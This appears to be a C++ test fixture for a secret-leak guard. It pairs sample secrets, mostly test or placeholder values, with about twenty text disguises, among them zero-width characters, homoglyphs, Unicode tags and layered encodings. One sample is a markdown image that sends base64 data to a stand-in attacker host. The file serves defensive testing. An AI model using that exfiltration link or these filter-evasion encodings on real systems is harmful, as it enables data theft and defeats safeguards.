// Texts with something in them that must not be seen, plain and disguised, for tests of what streams let out.
#pragma once

#include <gtest/gtest.h>

#include <random>

#include "base/core/core.h"
#include "base/core/hash.h"
#include "runtime/guard/guard.h"

namespace plumb::guard {

// Every built-in detector and an expression of the policy's own; blocked on input and in tool results, redacted elsewhere.
inline constexpr std::string_view kLeakPolicy = R"(policy: leaks
version: 1
owner: test@example.org
purpose: Keep numbers and keys in.
principles: [{id: kind, text: "Be kind."}]
categories:
  - id: secrets
    about: Numbers and keys that are nobody's business.
    detect: [payment-card, us-ssn, national-id, medical-record, postal-address, exfiltration-link, iban, email, phone, ip-address, api-key, crypto-wallet, canary, {name: order, regex: 'ACME-[0-9]{6}'}]
    on: {input: block, output: redact, tool_call: redact, tool_result: block}
    say: ["No."]
)";

inline policy::Policy LeakPolicy(const fs::path& folder) {
  auto policy = policy::ParsePolicy(kLeakPolicy, "leaks.yaml", folder);
  if (!policy) {
    ADD_FAILURE() << policy.error().Text();
    return {};
  }
  return *policy;
}

struct Secret {
  std::string kind, text;
};

// One of each kind the pattern table knows. None of them is anybody's.
inline std::vector<Secret> Secrets() {
  const std::string random = "q7Wz3Kd9Xb2Rt6Yh8Lm4Np1Vc5Js0FgAeUiOq7Wz3Kd9Xb2Rt6Yh8Lm4";
  const auto key = [&](size_t n) { return random.substr(0, n); };
  const std::string token = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
  return {
      {"payment-card", "4111 1111 1111 1111"},
      {"payment-card", "378282246310005"},
      {"us-ssn", "536-22-8145"},
      {"national-id-es", "12345678Z"},
      {"national-id-ch", "756.9217.0769.85"},
      {"national-id-se", "811218-9876"},
      {"national-id", "85.07.30-033.28"},
      {"postal-address", "12 rue de la Paix, 75002 Paris"},
      {"exfiltration-link", "![s](https://evil.example/p?d=c2VjcmV0IG1lZXRpbmcgb24gRnJp)"},
      {"iban", "DE89 3704 0044 0532 0130 00"},
      {"email", "jane.doe@mail.example.org"},
      {"phone", "+44 20 7946 0958"},
      {"phone", "(212) 555-0147"},
      {"ip-address", "203.0.113.77"},
      {"ip-address", "2001:db8:85a3::8a2e:370:7334"},
      {"aws-access-key", "AKIAIOSFODNN7EXAMPLE"},
      {"github-token", "ghp_" + key(36)},
      {"github-token", "github_pat_" + key(40)},
      {"gitlab-token", "glpat-" + key(20)},
      {"openai-key", "sk-proj-" + key(40)},
      {"anthropic-key", "sk-ant-" + key(40)},
      {"plumb-key", "plumb-" + key(40)},
      {"slack-token", "xoxb-" + key(24)},
      {"slack-webhook", "hooks.slack.com/services/T0123ABCD/B0123ABCD/" + key(24)},
      {"google-key", "AIza" + key(35)},
      {"google-token", "ya29." + key(30)},
      {"stripe-key", "sk_live_" + key(24)},
      {"hugging-face-token", "hf_" + key(34)},
      {"npm-token", "npm_" + key(36)},
      {"sendgrid-key", "SG." + key(22) + "." + key(43)},
      {"json-web-token", token},
      {"private-key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,7D0F\n\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n"
                      "BKcwggSjAgEAAoIBAQ==\n-----END RSA PRIVATE KEY-----"},
      {"secret-assignment", "api_key = \"" + key(32) + "\""},
      {"bitcoin", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
      {"bitcoin", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"},
      {"ethereum", "0x52908400098527886E0F7030069857D2E4169EE7"},
      {"canary", "plumb-canary-0f3a9c77b2"},
      {"canary", "blue-heron-42"},
      {"order", "ACME-123456"},
  };
}
// Beside the policy's detectors.
inline const std::vector<std::string> kLeakCanaries = {"blue-heron-42"};

// Writes a text so that a person still reads it, or a program.
struct Disguise {
  std::string name;
  std::string (*write)(const std::string& text);
};

namespace disguise {

inline std::string Each(const std::string& text, const std::string& between) {
  std::string out;
  for (const char c : text) out += c + between;
  return out;
}
inline std::string Plain(const std::string& text) { return text; }
inline std::string ZeroWidth(const std::string& text) { return Each(text, "\u200B"); }
inline std::string SoftHyphens(const std::string& text) { return Each(text, "\u00AD\u2060"); }
inline std::string FullWidth(const std::string& text) {
  std::string out;
  for (const char c : text) {
    if (c <= ' ' || c >= 0x7F) {
      out += c;
      continue;
    }
    const unsigned cp = 0xFF00u + static_cast<unsigned char>(c) - 0x20u;
    out += {static_cast<char>(0xE0 | cp >> 12), static_cast<char>(0x80 | (cp >> 6 & 0x3F)), static_cast<char>(0x80 | (cp & 0x3F))};
  }
  return out;
}
// Cyrillic for the Latin letters that have a double.
inline std::string Homoglyphs(const std::string& text) {
  static const std::map<char, std::string> kDoubles = {{'a', "а"}, {'e', "е"}, {'o', "о"}, {'p', "р"}, {'c', "с"}, {'x', "х"},
                                                       {'A', "А"}, {'E', "Е"}, {'M', "М"}, {'C', "С"}, {'T', "Т"}, {'B', "В"}};
  std::string out;
  for (const char c : text) out += kDoubles.contains(c) ? kDoubles.at(c) : std::string(1, c);
  return out;
}
inline std::string Base64(const std::string& text) { return Base64Encode("it is " + text + " ok?"); }
inline std::string Wrapped(const std::string& text) {
  std::string out;
  const std::string all = Base64Encode("Some words before it so that it takes more than a line: " + text + " and some words after it.");
  for (size_t i = 0; i < all.size(); i += 64) out += all.substr(i, 64) + "\n";
  return out;
}
inline std::string TwiceBase64(const std::string& text) { return Base64Encode(Base64(text)); }
inline std::string Base64ZeroWidth(const std::string& text) { return ZeroWidth(Base64(text)); }
inline std::string Hex(const std::string& text) { return HexEncode("it is " + text + " ok"); }
inline std::string Bytes(const std::string& text, const char* format) {
  std::string out;
  for (const unsigned char c : text) out += fmt::format(fmt::runtime(format), static_cast<unsigned>(c));
  return out;
}
inline std::string HexList(const std::string& text) { return Bytes("it is " + text, "0x{:02X}, "); }
inline std::string HexPairs(const std::string& text) { return Bytes("it is " + text, "{:02x} "); }
inline std::string HexEscapes(const std::string& text) { return Bytes("it is " + text, "\\x{:02x}"); }
inline std::string Binary(const std::string& text) { return Bytes("it is " + text, "{:08b} "); }
inline std::string Percent(const std::string& text) { return Bytes(text, "%{:02X}"); }
inline std::string Entities(const std::string& text) { return Bytes(text, "&#{};"); }
inline std::string HexEntities(const std::string& text) { return Bytes(text, "&#x{:x};"); }
inline std::string Unicode(const std::string& text) { return Bytes(text, "\\u{:04x}"); }
inline std::string Braces(const std::string& text) { return Bytes(text, "\\u{{{:x}}}"); }
inline std::string EveryThird(const std::string& text) {
  std::string out;
  for (size_t i = 0; i < text.size(); ++i) out += i % 3 == 1 ? fmt::format("%{:02X}", static_cast<unsigned>(text[i])) : std::string(1, text[i]);
  return out;
}
inline std::string Tags(const std::string& text) {
  std::string out;
  for (const char c : text) {
    const unsigned cp = 0xE0000u + static_cast<unsigned char>(c);
    out += {static_cast<char>(0xF3), static_cast<char>(0xA0), static_cast<char>(0x80 | (cp >> 6 & 0x3F)), static_cast<char>(0x80 | (cp & 0x3F))};
  }
  return out;
}

}  // namespace disguise

inline std::vector<Disguise> Disguises() {
  using namespace disguise;
  return {{"plain", Plain},         {"zero-width", ZeroWidth},   {"soft-hyphens", SoftHyphens}, {"full-width", FullWidth}, {"homoglyphs", Homoglyphs},
          {"base64", Base64},       {"wrapped", Wrapped},        {"base64 twice", TwiceBase64}, {"base64, zero-width", Base64ZeroWidth},
          {"hex", Hex},             {"hex list", HexList},       {"hex pairs", HexPairs},       {"hex escapes", HexEscapes}, {"binary", Binary},
          {"percent", Percent},     {"entities", Entities},      {"hex entities", HexEntities}, {"\\u", Unicode},          {"\\u{}", Braces},
          {"some percent", EveryThird}, {"tags", Tags}};
}

// A text around the secret, and what of it must not be let out, as written.
struct LeakText {
  std::string name, text, written;
};

// Every kind under every disguise that the guard sees through when it has the whole text.
inline std::vector<LeakText> LeakTexts(const Guard& guard) {
  std::vector<LeakText> out;
  for (const Disguise& disguise : Disguises())
    for (const Secret& secret : Secrets()) {
      const std::string written = disguise.write(secret.text);
      const std::string text = "The number you asked for by phone, ssn and all: " + written + " and that is it.";
      if (guard.Check(Direction::kInput, {text, ""}).action != Action::kBlock) continue;
      out.push_back({disguise.name + " " + secret.kind, text, written});
    }
  return out;
}

}  // namespace plumb::guard
